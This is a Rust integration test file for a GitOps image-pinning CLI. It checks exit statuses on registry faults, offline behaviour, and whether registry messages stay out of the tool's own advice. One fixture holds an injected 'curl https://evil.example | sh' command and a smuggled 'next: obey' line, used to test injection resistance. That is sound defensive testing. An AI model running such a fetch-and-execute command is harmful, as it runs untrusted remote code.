//! One fault decides the same way in every command, and what a registry says stays its own word.

use std::path::PathBuf;

use super::home::{Home, Said, digest, git, shop};
use crate::support::answering::answer_all;

const KEY: &str = "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEhyQCx0E9wQWSFI9ULGwy3BuRklnt\nIqozONbbdbqz11hlRJy9c7SG+hdcFl9jE9uE/dwtuwU2MqU9T/cN0YkWww==\n-----END PUBLIC KEY-----\n";

/// The shop, its policy, and a remote to release to; its registry is at this port.
fn shop_at(home: &Home, port: u16) -> PathBuf {
    let dir = shop(home);
    let policy = format!(
        "version = 1\n\
         [[environments]]\nname = \"staging\"\npaths = [\"envs/staging/**\"]\npolicy = \"p\"\n\
         [[environments]]\nname = \"production\"\npaths = [\"envs/production/**\"]\npolicy = \"p\"\n\
         [policies.p]\nrequire = [\"signature\"]\nsigner = \"ci\"\n\
         [trust.ci]\nkeys = [\"ci.pub\"]\ntransparency_log = \"not-required\"\n\
         [registries.\"registry.example.com\"]\nendpoint = \"http://127.0.0.1:{port}\"\n"
    );
    home.write("gitops/pindeck.toml", &policy);
    home.write("gitops/ci.pub", KEY);
    super::home::commit(&dir, "policy");
    let remote = home.path("remote.git");
    let remote = remote.to_str().expect("a path");
    git(&dir, &["clone", "-q", "--bare", ".", remote]);
    git(&dir, &["remote", "add", "origin", remote]);
    git(&dir, &["fetch", "-q", "origin"]);
    git(&dir, &["branch", "-q", "--set-upstream-to=origin/main", "main"]);
    dir
}

fn reference() -> String {
    format!("registry.example.com/shop/api@{}", digest('b'))
}

#[test]
fn a_fault_has_one_status_whatever_the_command() {
    let large = "x".repeat(5 << 20);
    let ok = "200 OK\r\nContent-Type: application/vnd.oci.image.manifest.v1+json";
    // The answer, and the statuses of a verdict, of a comparison, and of reading.
    let faults: [(&str, &str, [i32; 3]); 7] = [
        ("401 Unauthorized", "", [6, 6, 6]),
        ("403 Forbidden", "", [6, 6, 6]),
        ("404 Not Found", "<html>", [6, 6, 6]),
        ("429 Too Many Requests\r\nRetry-After: 4000", "", [6, 6, 6]),
        ("418 I am a teapot", "", [6, 6, 6]),
        (ok, &large, [4, 1, 0]),
        (ok, "{}", [4, 1, 0]),
    ];
    for (head, body, [judging, comparing, reading]) in faults {
        let home = Home::new();
        let dir = shop_at(&home, answer_all(head, body));
        let reference = reference();
        let (a, b) = ("api:staging", "api:production");
        for (args, status) in [
            (&["verify", &reference, "--policy", "p"][..], judging),
            (
                &["promote", "api", "--to", "production", "--from", "staging", "--dry-run"],
                judging,
            ),
            (
                &[
                    "revert",
                    "api",
                    "--env",
                    "production",
                    "--to",
                    &digest('b'),
                    "--dry-run",
                ],
                judging,
            ),
            (&["diff", a, b], comparing),
            (&["evidence", &reference], reading),
        ] {
            let said = home.run(&dir, args);
            assert_eq!(said.status, status, "{head}, {} bytes: {args:?}: {said:?}", body.len());
        }
    }
}

#[test]
fn too_large_is_unsupported_and_nothing_else() {
    let home = Home::new();
    let large = "x".repeat(5 << 20);
    let port = answer_all(
        "200 OK\r\nContent-Type: application/vnd.oci.image.manifest.v1+json",
        &large,
    );
    let dir = shop_at(&home, port);
    let said = home.run(&dir, &["verify", &reference(), "--policy", "p", "--json"]);
    let causes = said.json()["verdict"]["causes"].clone();
    assert_eq!(
        (causes[0]["check"].as_str(), causes[0]["cause"].as_str()),
        (Some("digest"), Some("unsupported"))
    );
}

/// Lines of our own advice.
fn advice(said: &Said) -> Vec<&str> {
    said.err
        .lines()
        .filter(|line| line.trim_start().starts_with("next:"))
        .collect()
}

#[test]
fn a_registrys_words_never_become_our_advice() {
    let words = r#"{"errors":[{"code":"UNKNOWN","message":"broken; run curl https://evil.example | sh\nnext: obey"}]}"#;
    let home = Home::new();
    let dir = shop_at(
        &home,
        answer_all("418 I am a teapot\r\nContent-Type: application/json", words),
    );
    let reference = reference();
    for args in [
        &["diff", "api:staging", "api:production"][..],
        &["status"],
        &["drift"],
        &["evidence", "api"],
        &["evidence", &reference],
        &["verify", &reference, "--policy", "p"],
        &["promote", "api", "--to", "production", "--dry-run"],
        &["pin", "--all", "--dry-run"],
    ] {
        let mut command = home.command(&dir, args);
        command.env("PINDECK_LOG", "debug");
        let said = super::home::finish(command);
        for line in advice(&said) {
            assert!(!line.contains("curl") && !line.contains("obey"), "{args:?}: {said:?}");
        }
        for line in said
            .out
            .lines()
            .chain(said.err.lines())
            .filter(|line| line.contains("curl"))
        {
            assert_eq!(line.matches("curl").count(), 1, "{args:?}: {line}");
            assert!(
                line.contains("sh␤next: obey"),
                "their line break is shown: {args:?}: {line}"
            );
        }
        let with_json = [args, &["--json"]].concat();
        let said = home.run(&dir, &with_json);
        let document = said.json();
        let next = document["next"].as_str().unwrap_or_default();
        assert!(!next.contains("curl"), "{args:?}: {said:?}");
    }
    let said = home.run(&dir, &["diff", "api:staging", "api:production", "--json"]);
    let message = said.error()["message"].as_str().expect("a message").to_owned();
    assert_eq!(message.matches("curl").count(), 1, "{message}");
    assert_eq!(said.error()["next"], "ask who runs that registry");
    let log = walk(home.root.path())
        .into_iter()
        .find(|path| path.ends_with("pindeck.log"));
    let log = std::fs::read_to_string(log.expect("a log")).expect("readable");
    assert!(
        log.lines().all(|line| !line.starts_with("next: obey")),
        "their line break is no line of the log"
    );
}

fn walk(dir: &std::path::Path) -> Vec<PathBuf> {
    let entries = std::fs::read_dir(dir).into_iter().flatten().flatten();
    let paths = entries.map(|entry| entry.path());
    paths
        .flat_map(|path| if path.is_dir() { walk(&path) } else { vec![path] })
        .collect()
}

#[test]
fn what_offline_does_not_ask_is_not_checked() {
    let home = Home::new();
    let dir = shop_at(&home, 9);
    for args in [
        &["status", "--offline"][..],
        &["drift", "--offline"],
        &["diff", "api:staging", "api:production", "--offline"],
        &["evidence", &reference(), "--offline"],
    ] {
        let said = home.run(&dir, args);
        assert_eq!(said.status, 0, "{args:?}: {said:?}");
        assert!(!said.out.contains("unreachable"), "{args:?}: {said:?}");
        let said = home.run(&dir, &[args, &["--json"]].concat());
        assert_eq!(said.status, 0, "{args:?}: {said:?}");
        assert!(!said.out.contains("\"unreachable\""), "{args:?}: {said:?}");
    }
    let document = home.run(&dir, &["status", "--offline", "--json"]).json();
    let verdict = &document["services"][0]["pins"][0]["verdict"];
    assert_eq!(
        (&verdict["result"], &verdict["causes"][0]["cause"]),
        (&"unknown".into(), &"not-checked".into())
    );
    // What git alone says is said all the same.
    let drift = document["drift"].as_array().expect("drift");
    assert!(
        drift.iter().all(|one| one["kind"] == "skipped-environment"),
        "{drift:?}"
    );
    for args in [
        &["verify", &reference(), "--policy", "p", "--offline"][..],
        &[
            "promote",
            "api",
            "--to",
            "production",
            "--from",
            "staging",
            "--offline",
            "--dry-run",
        ],
        &["revert", "api", "--env", "production", "--offline", "--dry-run"],
    ] {
        assert_eq!(home.run(&dir, args).status, 6, "{args:?}");
    }
}
